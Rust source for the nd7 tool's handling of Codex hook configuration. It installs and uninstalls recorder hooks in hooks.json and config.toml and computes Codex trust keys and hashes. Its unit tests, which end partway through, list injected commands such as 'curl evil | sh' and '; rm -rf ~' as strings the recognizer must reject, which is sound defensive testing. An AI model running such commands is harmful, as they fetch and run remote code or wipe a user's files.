//! nd7's hooks in Codex's configuration: `$CODEX_HOME/hooks.json`, or the
//! `[hooks]` table of `$CODEX_HOME/config.toml`. Added, brought up to date or
//! taken out, with everything else left as it was (in TOML, comments and
//! layout too), and Codex's trust state read. Pure: text in, text out.
//!
//! Codex runs a hook's `command` as one string through `$SHELL -lc`; there is
//! no exec form. nd7's handler is therefore `'<nd7-record>' --agent codex`
//! (ADR-0151), or `'<nd7>' record --agent codex` where no nd7-record sits
//! beside nd7, the path quoted for a POSIX shell. One group `{"hooks": [handler]}` per
//! event, at the end of the event's list the first time, and replaced where
//! it stands afterwards: Codex keys its trust by position
//! (`<file>:<event_label>:<group>:<handler>`), so moving nd7's group would
//! move the user's hooks after it too.

use std::collections::BTreeMap;

use serde_json::{Map, Value, json};
use sha2::{Digest, Sha256};
use toml_edit::{Array, ArrayOfTables, DocumentMut, InlineTable, Item, Table, TableLike};

use super::merge::{Change, Merged, file_named};
use crate::codex::hook::CodexEvent;
use crate::hook::{RECORDER_NAME, Recorder};

/// The events nd7 knows (Codex 0.171.0's), all recorded. Codex ignores
/// names it does not know, so an older Codex is given them too; setup adds
/// whatever else the installed Codex says it knows ([`with_known`]).
pub fn events() -> &'static [&'static str] {
    CodexEvent::NAMES
}

/// Whether `name` can be an event name in Codex's files: a plain
/// PascalCase word, as every one so far is. Guards what setup takes from
/// the installed Codex's answer.
pub fn is_event_name(name: &str) -> bool {
    name.len() <= 64
        && name.starts_with(|c: char| c.is_ascii_uppercase())
        && name.chars().all(|c| c.is_ascii_alphanumeric())
}

/// The event names a JSON Schema of Codex's app-server protocol lists in
/// its `HookEventName` (camelCase there, `preToolUse`), as Codex's files
/// spell them (`PreToolUse`). `None` when the text holds no such list, or a
/// name that cannot be an event name.
pub fn schema_events(text: &str) -> Option<Vec<String>> {
    let schema: Value = serde_json::from_str(text).ok()?;
    let names = ["definitions", "$defs"].iter().find_map(|d| {
        schema
            .get(*d)?
            .get("HookEventName")?
            .get("enum")?
            .as_array()
    })?;
    names
        .iter()
        .map(|n| {
            let n = n.as_str()?;
            let mut chars = n.chars();
            let first = chars.next()?.to_ascii_uppercase();
            let name: String = std::iter::once(first).chain(chars).collect();
            is_event_name(&name).then_some(name)
        })
        .collect()
}

/// The events to register: nd7's own, then those of `known` (the installed
/// Codex's, when it could be asked) that nd7 does not know, in Codex's
/// order. Names that cannot be event names are left out.
pub fn with_known<'a>(known: Option<&'a [String]>) -> Vec<&'a str> {
    let mut out: Vec<&'a str> = events().to_vec();
    for name in known.into_iter().flatten() {
        if is_event_name(name) && !out.contains(&name.as_str()) {
            out.push(name);
        }
    }
    out
}

/// Events whose hooks Codex cuts off after at most 3 s (1 s unless told).
pub const SHORT_EVENTS: &[&str] = &["SessionEnd", "Interrupt"];

/// The timeout nd7 asks for on [`SHORT_EVENTS`]: the most Codex allows.
pub const SHORT_TIMEOUT_SECS: u64 = 3;

/// Events whose matcher Codex ignores (it treats them as unmatched).
const UNMATCHED_EVENTS: &[&str] = &["UserPromptSubmit", "Stop", "Interrupt"];

/// `text` quoted as one word for a POSIX shell: in single quotes, each `'`
/// written as `'\''`.
pub fn shell_quote(text: &str) -> String {
    format!("'{}'", text.replace('\'', r"'\''"))
}

/// The command string of nd7's handler: `recorder` with `--agent codex`.
pub fn command(recorder: &Recorder) -> String {
    let mut words = vec![shell_quote(recorder.program())];
    words.extend(recorder.args().iter().map(|a| a.to_string()));
    words.push("--agent codex".into());
    words.join(" ")
}

/// Whether `command` runs some nd7's recorder for Codex: the shell words
/// `<path>/nd7-record --agent codex` (ADR-0151), or one of the older
/// `<path>/nd7 record --agent codex` and `<path>/nd7 record --agent=codex`,
/// and nothing else.
pub fn is_nd7_command(command: &str) -> bool {
    is_lean_command(command) || is_nd7_record_command(command)
}

/// The new form exactly as [`command`] writes it, the path in single
/// quotes: setup never wrote it otherwise, so no other spelling (one that
/// leaves `$(...)` in the path to the shell, say) is taken for nd7's.
fn is_lean_command(text: &str) -> bool {
    match shlex::split(text).as_deref() {
        Some([program, ..]) => {
            file_named(program, RECORDER_NAME) && text == command(&Recorder::lean(program.as_str()))
        }
        _ => false,
    }
}

/// The older forms, which run `nd7 record`.
fn is_nd7_record_command(command: &str) -> bool {
    match shlex::split(command).as_deref() {
        Some([program, record, agent, codex]) => {
            file_named(program, "nd7")
                && record == "record"
                && agent == "--agent"
                && codex == "codex"
        }
        Some([program, record, agent]) => {
            file_named(program, "nd7") && record == "record" && agent == "--agent=codex"
        }
        _ => false,
    }
}

/// The change that replacing nd7's handler `current` with `recorder`'s is.
fn replaced(event: &str, current: Option<&str>, recorder: &Recorder) -> Change {
    if recorder.is_lean() && current.is_some_and(is_nd7_record_command) {
        Change::Moved(event.to_string())
    } else {
        Change::Replaced(event.to_string())
    }
}

/// The timeout nd7 writes for `event`, if any.
pub fn timeout_for(event: &str) -> Option<u64> {
    SHORT_EVENTS.contains(&event).then_some(SHORT_TIMEOUT_SECS)
}

/// nd7's handler for `event`, as JSON.
pub fn handler_json(recorder: &Recorder, event: &str) -> Value {
    let mut handler = json!({ "type": "command", "command": command(recorder) });
    if let Some(t) = timeout_for(event) {
        handler["timeout"] = json!(t);
    }
    handler
}

/// Why a Codex configuration file was not changed.
#[derive(Debug, thiserror::Error)]
pub enum CodexConfigError {
    #[error("line {line}, column {column}: not valid JSON: {message}")]
    Json {
        line: usize,
        column: usize,
        message: String,
    },
    #[error("line {line}, column {column}: not valid TOML: {message}")]
    Toml {
        line: usize,
        column: usize,
        message: String,
    },
    #[error("the file is not a JSON object")]
    NotObject,
    #[error("\"hooks\" is not an object")]
    HooksNotObject,
    #[error("[hooks] is not a table")]
    HooksNotTable,
    #[error("the hooks of {0} are not a list")]
    EventNotList(String),
}

/// One nd7 handler found in a configuration, where Codex will find it.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Found {
    pub event: String,
    pub group: usize,
    pub handler: usize,
    pub command: String,
    pub timeout: Option<u64>,
    pub matcher: Option<String>,
    pub is_async: bool,
    pub status_message: Option<String>,
}

impl Found {
    /// The key Codex stores this handler's trust under, for a handler read
    /// from `source` (the file's absolute path, as Codex names it).
    pub fn trust_key(&self, source: &str) -> String {
        trust_key(source, &self.event, self.group, self.handler)
    }

    /// The hash Codex compares with the trusted one.
    pub fn trust_hash(&self) -> String {
        trust_hash(
            &self.event,
            self.matcher.as_deref(),
            &self.command,
            self.timeout,
            self.is_async,
            self.status_message.as_deref(),
        )
    }
}

/// `PreToolUse` → `pre_tool_use`: the label in Codex's trust keys.
pub fn event_label(event: &str) -> String {
    let mut label = String::with_capacity(event.len() + 4);
    for (i, c) in event.chars().enumerate() {
        if c.is_ascii_uppercase() && i > 0 {
            label.push('_');
        }
        label.push(c.to_ascii_lowercase());
    }
    label
}

/// The key of `[hooks.state."<key>"]` for a handler: its file, event label,
/// and position.
pub fn trust_key(source: &str, event: &str, group: usize, handler: usize) -> String {
    format!("{source}:{}:{group}:{handler}", event_label(event))
}

/// The timeout Codex gives a handler of `event` that asks for `configured`.
pub fn effective_timeout(event: &str, configured: Option<u64>) -> u64 {
    if SHORT_EVENTS.contains(&event) {
        configured.unwrap_or(1).clamp(1, SHORT_TIMEOUT_SECS)
    } else {
        configured.unwrap_or(600).max(1)
    }
}

/// The hash Codex 0.171.0 computes for a command handler, and stores as
/// `trusted_hash` once the user trusts it: `sha256:` and the hex SHA-256 of
/// the compact JSON, keys sorted, of `{event_name: <label>, matcher?, hooks:
/// [{type, command, timeout, async, statusMessage?}]}` with the timeout and
/// matcher as Codex normalises them. Checked against the real CLI's
/// `hooks/list` by the end-to-end test.
pub fn trust_hash(
    event: &str,
    matcher: Option<&str>,
    command: &str,
    timeout: Option<u64>,
    is_async: bool,
    status_message: Option<&str>,
) -> String {
    let mut handler = BTreeMap::new();
    handler.insert("async", json!(is_async));
    handler.insert("command", json!(command));
    if let Some(message) = status_message {
        handler.insert("statusMessage", json!(message));
    }
    handler.insert("timeout", json!(effective_timeout(event, timeout)));
    handler.insert("type", json!("command"));
    let mut identity = BTreeMap::new();
    identity.insert("event_name", json!(event_label(event)));
    identity.insert("hooks", json!([handler]));
    if let Some(m) = matcher.filter(|_| !UNMATCHED_EVENTS.contains(&event)) {
        identity.insert("matcher", json!(m));
    }
    let bytes = serde_json::to_vec(&identity).expect("a map of JSON values serializes");
    let digest = Sha256::digest(&bytes);
    let mut hex = String::with_capacity(71);
    hex.push_str("sha256:");
    for b in digest {
        hex.push_str(&format!("{b:02x}"));
    }
    hex
}

// ---- hooks.json -------------------------------------------------------

fn parse_json(text: Option<&str>) -> Result<Map<String, Value>, CodexConfigError> {
    use super::merge::JsonProblem;
    super::merge::parse_object(text).map_err(|p| match p {
        JsonProblem::NotObject => CodexConfigError::NotObject,
        JsonProblem::Json {
            line,
            column,
            message,
        } => CodexConfigError::Json {
            line,
            column,
            message,
        },
    })
}

fn json_is_nd7(handler: &Value) -> bool {
    handler["type"] == "command" && handler["command"].as_str().is_some_and(is_nd7_command)
}

/// Whether a hooks.json holds any hook at all.
pub fn json_has_hooks(text: Option<&str>) -> Result<bool, CodexConfigError> {
    let file = parse_json(text)?;
    Ok(file
        .get("hooks")
        .and_then(Value::as_object)
        .is_some_and(|h| {
            h.values()
                .any(|g| g.as_array().is_some_and(|g| !g.is_empty()))
        }))
}

/// nd7's handlers in a hooks.json, for every event.
pub fn found_json(text: Option<&str>) -> Result<Vec<Found>, CodexConfigError> {
    let file = parse_json(text)?;
    let mut found = Vec::new();
    let Some(hooks) = file.get("hooks") else {
        return Ok(found);
    };
    let hooks = hooks.as_object().ok_or(CodexConfigError::HooksNotObject)?;
    for (event, groups) in hooks {
        let Some(groups) = groups.as_array() else {
            continue;
        };
        for (g, group) in groups.iter().enumerate() {
            let Some(handlers) = group["hooks"].as_array() else {
                continue;
            };
            for (h, handler) in handlers.iter().enumerate() {
                if json_is_nd7(handler) {
                    found.push(Found {
                        event: event.clone(),
                        group: g,
                        handler: h,
                        command: handler["command"].as_str().unwrap_or_default().into(),
                        timeout: handler["timeout"].as_u64(),
                        matcher: group["matcher"].as_str().map(str::to_string),
                        is_async: handler["async"].as_bool().unwrap_or(false),
                        status_message: handler["statusMessage"].as_str().map(str::to_string),
                    });
                }
            }
        }
    }
    Ok(found)
}

/// Adds nd7's handler for every Codex event to a hooks.json (`None`: the
/// file does not exist), or brings an older one up to date where it stands.
pub fn install_json(
    text: Option<&str>,
    recorder: &Recorder,
    events: &[&str],
) -> Result<Merged, CodexConfigError> {
    let mut file = parse_json(text)?;
    let original = file.clone();
    let hooks = file
        .entry("hooks")
        .or_insert_with(|| Value::Object(Map::new()))
        .as_object_mut()
        .ok_or(CodexConfigError::HooksNotObject)?;
    let mut changes = Vec::new();
    for event in events {
        let wanted = handler_json(recorder, event);
        let groups = hooks
            .entry(*event)
            .or_insert_with(|| Value::Array(Vec::new()))
            .as_array_mut()
            .ok_or_else(|| CodexConfigError::EventNotList(event.to_string()))?;
        let mut positions = Vec::new();
        for (g, group) in groups.iter().enumerate() {
            for (h, handler) in group["hooks"].as_array().into_iter().flatten().enumerate() {
                if json_is_nd7(handler) {
                    positions.push((g, h));
                }
            }
        }
        match positions.split_first() {
            None => {
                groups.push(json!({ "hooks": [wanted] }));
                changes.push(Change::Added(event.to_string()));
            }
            Some((&(g, h), rest)) => {
                let current = &groups[g]["hooks"][h];
                if rest.is_empty() && *current == wanted {
                    continue;
                }
                let change = replaced(event, current["command"].as_str(), recorder);
                groups[g]["hooks"][h] = wanted;
                for &(g, h) in rest.iter().rev() {
                    if let Some(handlers) = groups[g]["hooks"].as_array_mut() {
                        handlers.remove(h);
                    }
                }
                groups.retain(|group| group["hooks"].as_array().is_none_or(|h| !h.is_empty()));
                changes.push(change);
            }
        }
    }
    let text = (file != original).then(|| super::merge::render_object(&file));
    Ok(Merged { text, changes })
}

/// Takes nd7's handlers, and only those, out of a hooks.json; groups and
/// event lists left empty by that go too.
pub fn uninstall_json(text: Option<&str>) -> Result<Merged, CodexConfigError> {
    let mut file = parse_json(text)?;
    let original = file.clone();
    let mut changes = Vec::new();
    if let Some(hooks) = file.get_mut("hooks") {
        let hooks = hooks
            .as_object_mut()
            .ok_or(CodexConfigError::HooksNotObject)?;
        let mut emptied = Vec::new();
        for (event, groups) in hooks.iter_mut() {
            let Some(groups) = groups.as_array_mut() else {
                continue;
            };
            let mut removed = 0;
            groups.retain_mut(|group| {
                let Some(handlers) = group.get_mut("hooks").and_then(Value::as_array_mut) else {
                    return true;
                };
                let before = handlers.len();
                handlers.retain(|h| !json_is_nd7(h));
                removed += before - handlers.len();
                !(handlers.is_empty() && before > 0)
            });
            if removed > 0 {
                changes.push(Change::Removed(event.clone()));
                if groups.is_empty() {
                    emptied.push(event.clone());
                }
            }
        }
        for event in &emptied {
            hooks.shift_remove(event);
        }
    }
    let text = (file != original).then(|| super::merge::render_object(&file));
    Ok(Merged { text, changes })
}

// ---- config.toml ------------------------------------------------------

/// config.toml's text as a document that keeps its comments; a broken one
/// is named by line and column.
pub fn parse_toml(text: Option<&str>) -> Result<DocumentMut, CodexConfigError> {
    let text = text.unwrap_or_default();
    text.parse::<DocumentMut>().map_err(|e| {
        let at = e.span().map_or(0, |s| s.start).min(text.len());
        let before = &text[..at];
        let line = before.matches('\n').count() + 1;
        let column = before
            .rsplit('\n')
            .next()
            .unwrap_or_default()
            .chars()
            .count()
            + 1;
        CodexConfigError::Toml {
            line,
            column,
            message: e.message().trim().to_string(),
        }
    })
}

/// The `[hooks]` table, if the document has one.
fn toml_hooks(doc: &DocumentMut) -> Result<Option<&dyn TableLike>, CodexConfigError> {
    match doc.get("hooks") {
        None => Ok(None),
        Some(item) => item
            .as_table_like()
            .map(Some)
            .ok_or(CodexConfigError::HooksNotTable),
    }
}

/// The groups of one event, however they are written: `[[hooks.E]]`
/// tables or an inline array of inline tables.
fn toml_groups(item: &Item) -> Option<Vec<&dyn TableLike>> {
    if let Some(tables) = item.as_array_of_tables() {
        return Some(tables.iter().map(|t| t as &dyn TableLike).collect());
    }
    let array = item.as_array()?;
    Some(
        array
            .iter()
            .filter_map(|v| v.as_inline_table().map(|t| t as &dyn TableLike))
            .collect(),
    )
}

/// The handlers of one group, however they are written.
fn toml_handlers(group: &dyn TableLike) -> Vec<&dyn TableLike> {
    match group.get("hooks") {
        Some(item) => toml_groups(item).unwrap_or_default(),
        None => Vec::new(),
    }
}

fn toml_str<'a>(t: &'a dyn TableLike, key: &str) -> Option<&'a str> {
    t.get(key).and_then(Item::as_str)
}

fn toml_is_nd7(handler: &dyn TableLike) -> bool {
    toml_str(handler, "type") == Some("command")
        && toml_str(handler, "command").is_some_and(is_nd7_command)
}

/// Whether config.toml holds hooks of its own under `[hooks]` (not only
/// Codex's trust state, `[hooks.state]`).
pub fn toml_has_hooks(text: Option<&str>) -> Result<bool, CodexConfigError> {
    let doc = parse_toml(text)?;
    let Some(hooks) = toml_hooks(&doc)? else {
        return Ok(false);
    };
    Ok(hooks
        .iter()
        .any(|(k, item)| k != "state" && toml_groups(item).is_some_and(|g| !g.is_empty())))
}

/// nd7's handlers under config.toml's `[hooks]`.
pub fn found_toml(text: Option<&str>) -> Result<Vec<Found>, CodexConfigError> {
    let doc = parse_toml(text)?;
    let mut found = Vec::new();
    let Some(hooks) = toml_hooks(&doc)? else {
        return Ok(found);
    };
    for (event, item) in hooks.iter().filter(|(k, _)| *k != "state") {
        for (g, group) in toml_groups(item).into_iter().flatten().enumerate() {
            for (h, handler) in toml_handlers(group).into_iter().enumerate() {
                if toml_is_nd7(handler) {
                    found.push(Found {
                        event: event.to_string(),
                        group: g,
                        handler: h,
                        command: toml_str(handler, "command").unwrap_or_default().into(),
                        timeout: handler
                            .get("timeout")
                            .and_then(Item::as_integer)
                            .and_then(|t| u64::try_from(t).ok()),
                        matcher: toml_str(group, "matcher").map(str::to_string),
                        is_async: handler
                            .get("async")
                            .and_then(Item::as_bool)
                            .unwrap_or(false),
                        status_message: toml_str(handler, "statusMessage").map(str::to_string),
                    });
                }
            }
        }
    }
    Ok(found)
}

fn handler_inline(recorder: &Recorder, event: &str) -> InlineTable {
    let mut handler = InlineTable::new();
    handler.insert("type", "command".into());
    handler.insert("command", command(recorder).into());
    if let Some(t) = timeout_for(event) {
        handler.insert("timeout", i64::try_from(t).unwrap_or(3).into());
    }
    handler
}

fn handlers_array(recorder: &Recorder, event: &str) -> Array {
    let mut array = Array::new();
    array.push(handler_inline(recorder, event));
    array
}

/// Whether a handler says exactly what nd7 would write for `event`.
fn toml_handler_is(handler: &dyn TableLike, recorder: &Recorder, event: &str) -> bool {
    let keys: Vec<&str> = handler.iter().map(|(k, _)| k).collect();
    let mut wanted = vec!["type", "command"];
    if timeout_for(event).is_some() {
        wanted.push("timeout");
    }
    keys.len() == wanted.len()
        && toml_str(handler, "command") == Some(command(recorder).as_str())
        && handler
            .get("timeout")
            .and_then(Item::as_integer)
            .and_then(|t| u64::try_from(t).ok())
            == timeout_for(event)
}

/// Sets one handler to nd7's, keeping its place and its decoration.
fn toml_set_handler(handler: &mut dyn TableLike, recorder: &Recorder, event: &str) {
    let keep: Vec<String> = handler
        .iter()
        .map(|(k, _)| k.to_string())
        .filter(|k| k != "type" && k != "command" && k != "timeout")
        .collect();
    for key in keep {
        handler.remove(&key);
    }
    handler.insert("type", Item::Value("command".into()));
    handler.insert("command", Item::Value(command(recorder).into()));
    match timeout_for(event) {
        Some(t) => {
            handler.insert("timeout", Item::Value(i64::try_from(t).unwrap_or(3).into()));
        }
        None => {
            handler.remove("timeout");
        }
    }
}

/// Mutable access to one event's groups, whichever way they are written.
enum GroupsMut<'a> {
    Tables(&'a mut ArrayOfTables),
    Inline(&'a mut Array),
}

impl GroupsMut<'_> {
    fn len(&self) -> usize {
        match self {
            GroupsMut::Tables(t) => t.len(),
            GroupsMut::Inline(a) => a.len(),
        }
    }

    fn group(&mut self, g: usize) -> Option<&mut dyn TableLike> {
        match self {
            GroupsMut::Tables(t) => t.get_mut(g).map(|t| t as &mut dyn TableLike),
            GroupsMut::Inline(a) => a
                .get_mut(g)
                .and_then(|v| v.as_inline_table_mut())
                .map(|t| t as &mut dyn TableLike),
        }
    }

    fn push(&mut self, recorder: &Recorder, event: &str) {
        match self {
            GroupsMut::Tables(t) => {
                let mut group = Table::new();
                group.insert("hooks", Item::Value(handlers_array(recorder, event).into()));
                t.push(group);
            }
            GroupsMut::Inline(a) => {
                let mut group = InlineTable::new();
                group.insert("hooks", handlers_array(recorder, event).into());
                a.push(group);
            }
        }
    }

    fn remove(&mut self, g: usize) {
        match self {
            GroupsMut::Tables(t) => {
                t.remove(g);
            }
            GroupsMut::Inline(a) => {
                a.remove(g);
            }
        }
    }
}

fn groups_mut(item: &mut Item) -> Option<GroupsMut<'_>> {
    if item.is_array_of_tables() {
        return item.as_array_of_tables_mut().map(GroupsMut::Tables);
    }
    item.as_array_mut().map(GroupsMut::Inline)
}

/// Handlers of a group, mutable: `(index, handler)` pairs.
fn with_handlers(group: &mut dyn TableLike, mut f: impl FnMut(usize, &mut dyn TableLike)) {
    let Some(item) = group.get_mut("hooks") else {
        return;
    };
    if let Some(tables) = item.as_array_of_tables_mut() {
        for (h, t) in tables.iter_mut().enumerate() {
            f(h, t);
        }
    } else if let Some(array) = item.as_array_mut() {
        for (h, v) in array.iter_mut().enumerate() {
            if let Some(t) = v.as_inline_table_mut() {
                f(h, t);
            }
        }
    }
}

/// Removes the handlers at `indices` (ascending) from a group; returns how
/// many the group has left.
fn remove_handlers(group: &mut dyn TableLike, indices: &[usize]) -> usize {
    let Some(item) = group.get_mut("hooks") else {
        return 0;
    };
    if let Some(tables) = item.as_array_of_tables_mut() {
        for &h in indices.iter().rev() {
            tables.remove(h);
        }
        tables.len()
    } else if let Some(array) = item.as_array_mut() {
        for &h in indices.iter().rev() {
            array.remove(h);
        }
        array.len()
    } else {
        0
    }
}

fn hooks_table_mut(doc: &mut DocumentMut) -> Result<&mut dyn TableLike, CodexConfigError> {
    if doc.get("hooks").is_none() {
        let mut table = Table::new();
        table.set_implicit(true);
        doc.insert("hooks", Item::Table(table));
    }
    doc.get_mut("hooks")
        .and_then(Item::as_table_like_mut)
        .ok_or(CodexConfigError::HooksNotTable)
}

/// Adds nd7's handler for every Codex event under config.toml's `[hooks]`,
/// or brings an older one up to date where it stands. Comments, layout and
/// every other key stay as they were.
pub fn install_toml(
    text: Option<&str>,
    recorder: &Recorder,
    events: &[&str],
) -> Result<Merged, CodexConfigError> {
    let mut doc = parse_toml(text)?;
    let original = doc.to_string();
    let hooks = hooks_table_mut(&mut doc)?;
    let mut changes = Vec::new();
    for event in events {
        if hooks.get(event).is_none() {
            hooks.insert(event, Item::ArrayOfTables(ArrayOfTables::new()));
        }
        let item = hooks.get_mut(event).expect("inserted above");
        let mut groups =
            groups_mut(item).ok_or_else(|| CodexConfigError::EventNotList(event.to_string()))?;
        let mut positions = Vec::new();
        for g in 0..groups.len() {
            if let Some(group) = groups.group(g) {
                with_handlers(group, |h, handler| {
                    if toml_is_nd7(handler) {
                        positions.push((g, h));
                    }
                });
            }
        }
        let Some((&(g0, h0), rest)) = positions.split_first() else {
            groups.push(recorder, event);
            changes.push(Change::Added(event.to_string()));
            continue;
        };
        let mut exact = false;
        let mut change = Change::Replaced(event.to_string());
        if let Some(group) = groups.group(g0) {
            with_handlers(group, |h, handler| {
                if h == h0 {
                    exact = toml_handler_is(handler, recorder, event);
                    change = replaced(event, toml_str(handler, "command"), recorder);
                    if !exact || !rest.is_empty() {
                        toml_set_handler(handler, recorder, event);
                    }
                }
            });
        }
        if exact && rest.is_empty() {
            continue;
        }
        // Further nd7 handlers go, and a group they leave empty with them.
        let mut by_group: BTreeMap<usize, Vec<usize>> = BTreeMap::new();
        for &(g, h) in rest {
            by_group.entry(g).or_default().push(h);
        }
        for (&g, hs) in by_group.iter().rev() {
            let left = groups
                .group(g)
                .map_or(1, |group| remove_handlers(group, hs));
            if left == 0 {
                groups.remove(g);
            }
        }
        changes.push(change);
    }
    let new = doc.to_string();
    Ok(Merged {
        text: (new != original).then_some(new),
        changes,
    })
}

/// Takes nd7's handlers, and only those, out of config.toml's `[hooks]`;
/// groups and events left empty by that go too.
pub fn uninstall_toml(text: Option<&str>) -> Result<Merged, CodexConfigError> {
    let mut doc = parse_toml(text)?;
    let original = doc.to_string();
    let mut changes = Vec::new();
    if doc.get("hooks").is_some() {
        let hooks = hooks_table_mut(&mut doc)?;
        let events: Vec<String> = hooks
            .iter()
            .map(|(k, _)| k.to_string())
            .filter(|k| k != "state")
            .collect();
        for event in events {
            let Some(item) = hooks.get_mut(&event) else {
                continue;
            };
            let Some(mut groups) = groups_mut(item) else {
                continue;
            };
            let mut removed = 0;
            for g in (0..groups.len()).rev() {
                let Some(group) = groups.group(g) else {
                    continue;
                };
                let mut ours = Vec::new();
                let mut total = 0;
                with_handlers(group, |h, handler| {
                    total += 1;
                    if toml_is_nd7(handler) {
                        ours.push(h);
                    }
                });
                if ours.is_empty() {
                    continue;
                }
                removed += ours.len();
                if remove_handlers(group, &ours) == 0 {
                    groups.remove(g);
                }
            }
            if removed > 0 {
                changes.push(Change::Removed(event.clone()));
                if groups.len() == 0 {
                    hooks.remove(&event);
                }
            }
        }
    }
    let new = doc.to_string();
    Ok(Merged {
        text: (new != original).then_some(new),
        changes,
    })
}

/// What config.toml says about one handler's trust.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct TrustState {
    pub trusted_hash: Option<String>,
    /// `Some(false)` when the user turned the hook off in `/hooks`.
    pub enabled: Option<bool>,
}

/// Every `[hooks.state."<key>"]` in a config.toml.
pub fn trust_states(text: Option<&str>) -> Result<BTreeMap<String, TrustState>, CodexConfigError> {
    let doc = parse_toml(text)?;
    let mut states = BTreeMap::new();
    let Some(state) = toml_hooks(&doc)?
        .and_then(|h| h.get("state"))
        .and_then(Item::as_table_like)
    else {
        return Ok(states);
    };
    for (key, item) in state.iter() {
        if let Some(t) = item.as_table_like() {
            states.insert(
                key.to_string(),
                TrustState {
                    trusted_hash: toml_str(t, "trusted_hash").map(str::to_string),
                    enabled: t.get("enabled").and_then(Item::as_bool),
                },
            );
        }
    }
    Ok(states)
}

/// Whether config.toml turns hooks off (`[features] hooks = false`, or the
/// older `codex_hooks = false`).
pub fn hooks_disabled(text: Option<&str>) -> Result<bool, CodexConfigError> {
    let doc = parse_toml(text)?;
    let features = doc.get("features").and_then(Item::as_table_like);
    Ok(features.is_some_and(|f| {
        ["hooks", "codex_hooks"]
            .iter()
            .any(|k| f.get(k).and_then(Item::as_bool) == Some(false))
    }))
}

/// Whether a requirements file lets only managed hooks run
/// (`allow_managed_hooks_only = true`).
pub fn managed_only(text: Option<&str>) -> Result<bool, CodexConfigError> {
    let doc = parse_toml(text)?;
    Ok(doc.get("allow_managed_hooks_only").and_then(Item::as_bool) == Some(true))
}

/// Takes out the trust Codex stored for nd7's handlers: each
/// `[hooks.state."<key>"]` among `trusted` whose `trusted_hash` is the one
/// given (a state the user set for something else at that key stays).
/// Tables left empty go; comments elsewhere stay.
pub fn remove_trust(
    text: Option<&str>,
    trusted: &[(String, String)],
) -> Result<Merged, CodexConfigError> {
    let mut doc = parse_toml(text)?;
    let original = doc.to_string();
    let mut changes = Vec::new();
    if let Some(state) = doc
        .get_mut("hooks")
        .and_then(Item::as_table_like_mut)
        .and_then(|h| h.get_mut("state"))
        .and_then(Item::as_table_like_mut)
    {
        for (key, hash) in trusted {
            let matches = state
                .get(key)
                .and_then(Item::as_table_like)
                .is_some_and(|t| toml_str(t, "trusted_hash") == Some(hash.as_str()));
            if matches {
                state.remove(key);
                changes.push(Change::Removed(format!("trust of {key}")));
            }
        }
    }
    if changes.is_empty() {
        return Ok(Merged {
            text: None,
            changes,
        });
    }
    let state_empty = doc
        .get("hooks")
        .and_then(Item::as_table_like)
        .and_then(|h| h.get("state"))
        .and_then(Item::as_table_like)
        .is_some_and(|s| s.is_empty());
    if state_empty && let Some(hooks) = doc.get_mut("hooks").and_then(Item::as_table_like_mut) {
        hooks.remove("state");
        if hooks.is_empty() {
            doc.remove("hooks");
        }
    }
    let new = doc.to_string();
    Ok(Merged {
        text: (new != original).then_some(new),
        changes,
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    const ND7: &str = "/home/u/.cargo/bin/nd7";

    /// What setup wires where nd7-record sits beside nd7.
    fn lean() -> Recorder {
        Recorder::lean("/home/u/.cargo/bin/nd7-record")
    }

    fn old(nd7: &str) -> Recorder {
        Recorder::nd7(nd7)
    }

    #[test]
    fn commands_are_quoted_and_recognised() {
        assert_eq!(
            command(&old(ND7)),
            "'/home/u/.cargo/bin/nd7' record --agent codex"
        );
        assert_eq!(
            command(&lean()),
            "'/home/u/.cargo/bin/nd7-record' --agent codex"
        );
        let odd = "/home/o'brien/my bin/nd7";
        let cmd = command(&old(odd));
        assert_eq!(
            shlex::split(&cmd).expect("splits"),
            [odd, "record", "--agent", "codex"]
        );
        assert!(is_nd7_command(&cmd));
        let odd_lean = "/home/o'brien/my bin/nd7-record";
        let cmd = command(&Recorder::lean(odd_lean));
        assert_eq!(
            shlex::split(&cmd).expect("splits"),
            [odd_lean, "--agent", "codex"]
        );
        assert!(is_nd7_command(&cmd));
        assert!(is_nd7_command("/opt/nd7 record --agent=codex"));
        assert!(is_nd7_command("'nd7-record' --agent codex"));
        assert!(!is_nd7_command("/opt/nd7 record"));
        assert!(!is_nd7_command("/opt/not-nd7 record --agent codex"));
        assert!(!is_nd7_command("'/opt/nd7' record --agent codex; rm -rf ~"));
        // Look-alikes of the new form.
        for no in [
            "/evil/nd7-record-x --agent codex",
            "/evil/nd7-recorder --agent codex",
            "/evil/x-nd7-record --agent codex",
            "/opt/nd7-record/ --agent codex",
            "/opt/nd7-record --agent codex; curl evil | sh",
            "curl evil | sh; /opt/nd7-record --agent codex",
            "/opt/nd7-record --agent codex --evil",
            "/opt/nd7-record --agent=codex",
            "/opt/nd7-record record --agent codex",
            "/opt/nd7-record --agent claude-code",
            "/opt/nd7-record",
            "/opt/nd7 --agent codex",
            "'/opt/nd7-record --agent codex'",
            "$(evil)/nd7-record --agent codex",
            "/opt/nd7-record --agent codex",
            "'/opt/nd7-record'  --agent codex",
            "'/opt/nd7-record' --agent 'codex'",
            // More lines or commands after the words (ADR-0153: tried, held).
            "'/opt/nd7-record' --agent codex\n",
            "'/opt/nd7-record' --agent codex #\ncurl evil | sh",
            "/opt/nd7 record --agent codex #\ncurl evil | sh",
            "/opt/nd7 record --agent codex\ncurl evil | sh",
            "/opt/nd7 record --agent codex\\\ncurl evil",
            "/opt/nd7 record --agent codex&&curl evil",
            "/opt/nd7 record --agent=codex|sh",
        ] {
            assert!(!is_nd7_command(no), "{no}");
        }
    }

    #[test]
    fn the_trust_hash_is_codexs() {
        // Taken from `codex app-server`'s hooks/list (Codex 0.171.0) for
        // `'/x/nd7' record --agent codex` in hooks.json.
        let cmd = "'/x/nd7' record --agent codex";
        assert_eq!(
            trust_hash("PreToolUse", None, cmd, None, false, None),
            "sha256:6fb08e12b3d6b8d5dd3cbc77f6b5c7e765464f2d6ec0b96c8f96816f60fc77a3"
        );
        assert_eq!(
            trust_hash("SessionEnd", None, cmd, Some(3), false, None),
            trust_hash("SessionEnd", None, cmd, Some(10), false, None),
        );
        assert_ne!(
            trust_hash("SessionEnd", None, cmd, None, false, None),
            trust_hash("SessionEnd", None, cmd, Some(3), false, None),
        );
        assert_eq!(
            trust_hash("Stop", Some("x"), cmd, None, false, None),
            trust_hash("Stop", None, cmd, None, false, None),
        );
        assert_ne!(
            trust_hash("PreToolUse", Some("x"), cmd, None, false, None),
            trust_hash("PreToolUse", None, cmd, None, false, None),
        );
